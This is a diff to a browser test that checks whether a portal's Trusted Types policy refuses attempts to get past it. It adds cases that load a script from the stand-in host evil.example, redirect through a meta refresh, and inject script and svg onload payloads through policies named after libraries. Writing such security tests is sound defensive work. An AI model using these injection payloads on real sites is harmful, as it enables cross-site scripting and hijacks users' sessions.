@@ -99,7 +99,8 @@ test('what would run or draw a text stays refused, by one policy beside which th
   await page.goto(`${portal.server.url}/platform/home-portal/legal`)
   await page.getByRole('heading', { level: 1 }).waitFor()
   const admitted = await page.evaluate(async () => {
-    type Factory = { createPolicy(name: string, rules: object): { createHTML(text: string): unknown } }
+    type View = Record<'createHTML' | 'createScriptURL', (text: string) => unknown>
+    type Factory = { createPolicy(name: string, rules: object): View }
     const { trustedTypes } = window as unknown as { trustedTypes: Factory }
     const native = Object.getPrototypeOf(trustedTypes) as Factory
     const ran = () => Reflect.has(window, 'planted')
@@ -134,6 +135,17 @@ test('what would run or draw a text stays refused, by one policy beside which th
       'a policy of any name': () => native.createPolicy.call(trustedTypes, 'evil', all),
       'a policy of a library, past the portal': () => native.createPolicy.call(trustedTypes, 'lit-html', all),
       'a policy of any name, by the portal': () => trustedTypes.createPolicy('evil', all),
+      'a bypass of Angular': () => trustedTypes.createPolicy('angular#unsafe-bypass', all),
+      'a script by the policy of a library': () => {
+        script.src = trustedTypes
+          .createPolicy('angular', all)
+          .createScriptURL('https://evil.example/x.js') as string
+      },
+      'a page to go to, by the policy of a library': () => {
+        box.innerHTML = trustedTypes
+          .createPolicy('vue', all)
+          .createHTML('<p><meta http-equiv="refresh" content="0; url=https://evil.example/">') as string
+      },
     }
     // Out of the debugger's reach, which may evaluate where the page may not.
     await new Promise(requestAnimationFrame)
@@ -150,6 +162,10 @@ test('what would run or draw a text stays refused, by one policy beside which th
     const link = Object.assign(document.createElement('a'), { href: `javascript:${plant}` })
     box.append(link, frame)
     link.click()
+    // What a library draws of a text, as v-html does, may hold markup and nothing that runs.
+    box.appendChild(document.createElement('div')).innerHTML = trustedTypes
+      .createPolicy('vue', all)
+      .createHTML(`${markup}<script>${plant}</script><svg onload="${plant}"></svg>`) as string
     const handler = document.createElement('button')
     try {
       handler.setAttribute('onclick', plant)
